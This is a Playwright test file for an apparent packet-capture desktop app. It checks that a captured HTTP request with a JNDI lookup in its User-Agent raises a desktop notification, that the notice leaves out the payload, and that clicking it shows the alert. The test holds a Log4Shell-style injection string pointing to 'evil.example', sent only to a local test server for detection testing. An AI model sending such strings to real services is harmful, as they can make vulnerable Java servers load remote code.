/** Alerts that a desktop is told of: a real notification service on a bus of its own, and the window that a click on the notice brings. */
import { type ChildProcess, execFileSync, spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import { canCapture, chooseLoopback, start, whyNoCapture } from './capturing.ts'
import { closeLeftovers, openFace, statusNumber } from './faces.ts'

const LOOKUP = '$' + '{jndi:ldap://evil.example/a}'

/** A session's bus with a notification service, which prints what it shows. */
class Desktop {
  shown = ''
  private readonly folder = mkdtempSync(join(tmpdir(), 'tapscope-desktop-'))
  private readonly before = process.env.DBUS_SESSION_BUS_ADDRESS
  private readonly programs: ChildProcess[] = []

  async start(): Promise<void> {
    const bus = this.run('dbus-daemon', ['--session', '--nofork', '--print-address=1'])
    const [address] = (await once(bus.stdout as NodeJS.ReadableStream, 'data')) as [Buffer]
    process.env.DBUS_SESSION_BUS_ADDRESS = address.toString().trim()
    this.run(process.env.TAPSCOPE_DUNST as string, ['-print']).stdout?.on('data', (text: Buffer) => {
      this.shown += text.toString()
    })
    await expect(() => this.control('is-paused')).toPass({ timeout: 15_000 })
  }

  click(): void {
    this.control('action', '0')
  }

  async stop(): Promise<void> {
    for (const program of this.programs.reverse()) {
      const gone = once(program, 'exit')
      if (program.exitCode === null && program.signalCode === null && program.kill('SIGKILL')) await gone
    }
    if (this.before === undefined) delete process.env.DBUS_SESSION_BUS_ADDRESS
    else process.env.DBUS_SESSION_BUS_ADDRESS = this.before
    rmSync(this.folder, { recursive: true, force: true })
  }

  private run(program: string, args: readonly string[]): ChildProcess {
    // Nobody's own settings of the service.
    const env = { ...process.env, XDG_CONFIG_HOME: this.folder }
    const child = spawn(program, args, { env, stdio: ['ignore', 'pipe', 'ignore'] })
    this.programs.push(child)
    return child
  }

  private control(...args: readonly string[]): void {
    execFileSync('dunstctl', args, { stdio: 'ignore', timeout: 10_000 })
  }
}

test.describe('electron', () => {
  test.skip(!process.env.TAPSCOPE_ELECTRON, process.env.TAPSCOPE_SKIP_REASON_ELECTRON ?? 'no Electron')
  test.skip(!canCapture, whyNoCapture)
  test.skip(!process.env.TAPSCOPE_DUNST, process.env.TAPSCOPE_SKIP_REASON_DUNST ?? 'no notification service')
  const desktop = new Desktop()
  test.beforeAll(() => desktop.start())
  test.afterEach(closeLeftovers)
  test.afterAll(() => desktop.stop())

  test('an alert that comes while nobody looks is told to the desktop, and a click on it shows it', async () => {
    const { page, lookAway, close } = await openFace('electron')
    await chooseLoopback(page, 'tcp')
    await start(page)
    await page.getByTestId('rail-frames').click()
    await lookAway?.()
    const server = createServer((_request, response) => response.end('ok'))
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()))
    const { port } = server.address() as AddressInfo
    await (await fetch(`http://127.0.0.1:${port}/`, { headers: { 'user-agent': LOOKUP } })).text()
    await new Promise((resolve) => server.close(resolve))
    await expect.poll(() => statusNumber(page, 'status-frames')).toBeGreaterThan(5)

    await expect.poll(() => desktop.shown, { timeout: 20_000 }).toContain('Critical: JNDI lookup in an HTTP request')
    expect(desktop.shown, 'nothing that was captured').not.toContain('evil.example')
    await expect(page.getByTestId('alert-rows')).toHaveCount(0)
    desktop.click()
    await expect(page.getByTestId('alert-rows')).toContainText('JNDI lookup')
    await close()
  })
})
